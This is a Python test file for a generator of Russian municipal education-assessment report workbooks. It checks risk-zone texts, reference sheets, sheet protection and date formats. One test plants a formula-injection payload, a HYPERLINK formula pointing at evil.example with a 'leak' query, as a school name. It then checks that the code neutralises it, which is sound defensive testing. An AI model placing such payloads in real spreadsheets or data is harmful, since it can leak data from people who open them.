"""Municipal report form (SPEC §9): 8 rows, pre-filled analysis and risk zone, reference sheets."""

from __future__ import annotations

import io

from python_calamine import CalamineWorkbook

from scripts.common.csvio import read_csv
from scripts.templates.report_form import MEASURES, build_reports, reason_text
from scripts.templates.report_main import make_reports

from .conftest import DATA, ROOT
from .test_school_template import NS, sheet_xml


def reports(definition, thr):
    return build_reports(
        definition,
        thr,
        read_csv(DATA / "municipalities.csv"),
        read_csv(DATA / "region.csv")[0],
        read_csv(DATA / "schools.csv"),
        read_csv(DATA / "deficits.csv"),
        read_csv(DATA / "recommendations.csv"),
    )


def sheet_rows(data: bytes, name: str):
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(name).to_python()


def test_reason_texts_use_thresholds(thr):
    assert reason_text("school", "below_basic_pct", thr) == (
        "доля обучающихся, не достигших базового уровня, ≥ 25 %"
    )
    assert (
        reason_text("school", "basic_tasks_pct", thr) == "выполнение заданий базового уровня < 57 %"
    )
    custom = {
        "risk": {"school": {"below_basic_pct": 30}, "municipality": {"schools_in_risk_pct": 40}}
    }
    assert reason_text("school", "below_basic_pct", custom).endswith("≥ 30 %")
    assert "≥ 40 %" in reason_text("municipality", "schools_in_risk_pct", custom)
    assert reason_text("school", "new_rule", thr) == "new_rule"


def test_one_report_per_municipality_with_eight_rows(definition, thr):
    files = reports(definition, thr)
    assert sorted(files) == ["01.xlsx", "02.xlsx", "03.xlsx"]
    rows = sheet_rows(files["01.xlsx"], "Отчёт")
    h = next(i for i, r in enumerate(rows) if r[0] == "№")
    assert rows[h] == [
        "№",
        "Мероприятие",
        "Данные мониторинга (заполнено ЦОКО)",
        "Сроки",
        "Ответственные",
        "Результат / подтверждающие документы",
    ]
    body = rows[h + 1 : h + 9]
    assert [r[0] for r in body] == list(range(1, 9))
    assert [r[1] for r in body] == [m for _, m in MEASURES]
    data = {key: r[2] for (key, _), r in zip(MEASURES, body, strict=True)}
    # analysis of results: the municipality against the region
    assert "Участников: 120 (регион: 150)" in data["analysis"]
    assert "Не достигли базового уровня: 22,5 % (регион: 20,0 %)" in data["analysis"]
    assert "Средний балл: 11,35 (регион: 11,60)" in data["analysis"]
    assert "Выполнение заданий базового уровня: 66,4 % (регион: 68,1 %)" in data["analysis"]
    assert "Муниципалитет в зоне риска" in data["analysis"]
    # risk-zone schools by name, with human-readable reasons and the school's value
    risk = data["risk"]
    assert "ОО в зоне риска: 2 из 3 классифицированных" in risk
    assert (
        "010002 МБОУ «Основная школа № 2» — выполнение заданий базового уровня < 57 % (в ОО: 55,1 %); "
        in risk
    )
    assert "доля обучающихся, не достигших базового уровня, ≥ 25 % (в ОО: 32,5 %)" in risk
    assert "010003 МБОУ «Лицей № 3»" in risk and "010001" not in risk
    assert "010001" in data["objectivity"] and "010003" in data["objectivity"]
    assert "№ 6 (3.1), № 10 (3.2)" in data["recommendations"]
    assert "подготовлены для ОО муниципалитета: 2" in data["recommendations"]
    # the municipality's own value beside each reason (2 of 3 classified schools: 66,7 %)
    assert "доля ОО в зоне риска ≥ 30 % классифицированных ОО (в МО: 66,7 %)" in data["decisions"]
    assert "не достигших базового уровня, ≥ 20 % (в МО: 22,5 %)" in data["decisions"]
    # the municipality's columns are empty, to be filled — and so are the rows the data cannot
    # fill (SPEC §9: «the rest left for the municipality»), not «—»
    assert all(r[3:6] == ["", "", ""] for r in body)
    assert [k for k, v in data.items() if not v] == ["observation", "acts", "methodical"]


def test_other_municipalities(definition, thr):
    files = reports(definition, thr)
    rows = sheet_rows(files["02.xlsx"], "Отчёт")
    text = "\n".join(str(c) for r in rows for c in r)
    assert "ОО в зоне риска нет (классифицировано ОО: 1)" in text
    # a school without results is named, so that «none in the zone» is not «all assessed»
    assert "Не оценены: нет файла — 020002 МКОУ Малая школа." in text
    assert "Общих для ОО муниципалитета дефицитов не выявлено" in text
    assert "подготовлены для ОО муниципалитета: 1" in text
    rows = sheet_rows(files["03.xlsx"], "Отчёт")
    text = "\n".join(str(c) for r in rows for c in r)
    assert "не классифицирован (нет участников)" in text
    assert "Участников: 0 (регион: 150)" in text and "Средний балл: — (регион: 11,60)" in text
    assert "Не оценены: нет файла — 030001 МКОУ Южская СШ." in text


def test_reference_sheets(definition, thr):
    data = reports(definition, thr)["01.xlsx"]
    figures = {r[0]: r[1:4] for r in sheet_rows(data, "Показатели")}
    assert figures["Не достигли базового уровня, %"] == [22.5, 20.0, 2.5]
    assert figures["Средний балл"] == [11.35, 11.6, -0.25]
    assert figures["Участников (выполняли работу)"][:2] == [120.0, 150.0]
    risk = sheet_rows(data, "Зона риска")
    assert [r[0] for r in risk[3:6]] == ["010001", "010002", "010003"]
    deficits = sheet_rows(data, "Дефициты")
    assert deficits[3][:2] == ["6", "базовый"] and deficits[3][2].startswith("3.1 Решать")
    assert deficits[3][5] == 66.7
    recs = sheet_rows(data, "Рекомендации")
    assert recs[3][0] == "муниципалитету" and recs[3][2].startswith("Провести методический семинар")


def test_protected_with_input_cells_unlocked(definition, thr):
    data = reports(definition, thr)["01.xlsx"]
    sheets = sheet_xml(data)
    assert list(sheets) == ["Отчёт", "Показатели", "Зона риска", "Дефициты", "Рекомендации"]
    for root in sheets.values():
        assert root.find("m:sheetProtection", NS).get("sheet") == "1"


def test_make_reports_writes_and_keeps(tmp_path, thr):
    out = tmp_path / "reports"
    args = [ROOT / "config/assessments/math4-2021.yaml", thr] + [
        DATA / f"{n}.csv"
        for n in ("municipalities", "region", "schools", "deficits", "recommendations")
    ]
    assert make_reports(*args, out)["written"] == 3
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert make_reports(*args, out)["written"] == 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(before) == [".done", "01.xlsx", "02.xlsx", "03.xlsx"]


def test_no_machine_id_reaches_the_form(definition, thr):
    """SPEC §1: the form is Russian — criteria and topics too, not `shared_by_schools` or
    `below_basic_pct` (the fixture's municipal deficits and recommendations carry both)."""
    import re

    data = reports(definition, thr)["01.xlsx"]
    deficits = sheet_rows(data, "Дефициты")
    assert {r[6] for r in deficits[3:5]} == {"общий для многих школ муниципалитета"}
    recs = sheet_rows(data, "Рекомендации")
    assert [r[1] for r in recs[3:5]] == ["3.1", "доля участников ниже базового уровня, %"]
    machine = re.compile(r"^[a-z]+(_[a-z]+)+(;[a-z_]+)*$")
    for name in ("Отчёт", "Показатели", "Зона риска", "Дефициты", "Рекомендации"):
        for row in sheet_rows(data, name):
            assert not [c for c in row if isinstance(c, str) and machine.match(c)], (name, row)


def test_input_text_that_looks_like_a_formula_is_neutralised(definition, thr):
    """SPEC §7: a text cell of a download starting with `=`, `+`, `-`, `@` is neutralised — also
    in the published report form (a school's name from the registry, a recommendation)."""
    schools = read_csv(DATA / "schools.csv")
    risky = next(s for s in schools if s["municipality_code"] == "01" and s.get("risk") == "1")
    risky["school_name"] = '=HYPERLINK("http://evil.example/?leak","Нажмите")'
    recs = read_csv(DATA / "recommendations.csv")
    mine = next(r for r in recs if r["scope"] == "municipality" and r["code"] == "01")
    mine["text"] = "+7 часов занятий"
    data = build_reports(definition, thr, read_csv(DATA / "municipalities.csv"),
                         read_csv(DATA / "region.csv")[0], schools,
                         read_csv(DATA / "deficits.csv"), recs)["01.xlsx"]  # fmt: skip
    names = [r[1] for r in sheet_rows(data, "Зона риска")]
    assert "'" + risky["school_name"] in names and risky["school_name"] not in names
    assert "'+7 часов занятий" in [r[2] for r in sheet_rows(data, "Рекомендации")]


def test_unassessed_schools_by_why(thr):
    from scripts.templates.report_form import unassessed_text

    schools = [
        {"school_code": "1", "school_name": "А", "status": "accepted", "risk": ""},  # 4 pupils
        {"school_code": "2", "school_name": "Б", "status": "rejected", "risk": ""},
        {"school_code": "3", "school_name": "В", "status": "missing", "risk": ""},
        {"school_code": "4", "school_name": "Г", "status": "accepted", "risk": "0"},
        {"school_code": "5", "school_name": "Д", "status": "accepted", "risk": "1"},
    ]
    assert unassessed_text(schools, thr) == (
        "Не оценены: файл отклонён — 2 Б; нет файла — 3 В; менее 5 участников — 1 А."
    )
    assert unassessed_text(schools[3:], thr) == ""


def test_dates_in_the_workbooks_read_as_in_russia(definition, thr):
    """«(2021-04-29)» under the form's title and in the template's instructions (an audit):
    DD.MM.YYYY, as the site's pages write dates."""
    from scripts.common.numfmt import ru_date

    data = reports(definition, thr)["01.xlsx"]
    texts = [c for r in sheet_rows(data, "Отчёт") for c in r if isinstance(c, str)]
    iso = str(definition["date"])
    assert any(ru_date(iso) in t for t in texts) and not any(iso in t for t in texts)


def test_a_municipality_without_participants_says_nothing_was_checked(definition, thr):
    """An audit: a municipality none of whose schools sent a file read «признаки
    необъективности не выявлены» and «дефицитов не выявлено» — as if they had been looked for."""
    from scripts.templates.report_form import measure_texts

    mo = {"municipality_code": "02", "participants": "0"}
    schools = [{"school_code": "1", "status": "missing", "objectivity_checked": "",
                "objectivity_flags": "", "risk": ""}]  # fmt: skip
    texts = measure_texts(definition, thr, mo, {}, schools, [], [], 0)
    assert texts["objectivity"] == ("Признаки необъективности не проверялись: результатов ОО "
                                    "муниципалитета нет (файлы не получены или отклонены).")  # fmt: skip
    assert "Дефициты не определялись: в муниципалитете нет участников." in texts["recommendations"]
    small = [{**schools[0], "status": "accepted", "objectivity_checked": "0"}]
    got = measure_texts(definition, thr, {**mo, "participants": "7"}, {}, small, [], [], 0)
    assert "ни в одной ОО муниципалитета нет 10 участников" in got["objectivity"]
    checked = [{**schools[0], "status": "accepted", "objectivity_checked": "1"}]
    texts = measure_texts(definition, thr, {**mo, "participants": "30"}, {}, checked, [], [], 0)
    assert (
        texts["objectivity"]
        == "Признаки необъективности результатов в ОО муниципалитета не выявлены."
    )
    assert "Общих для ОО муниципалитета дефицитов не выявлено." in texts["recommendations"]
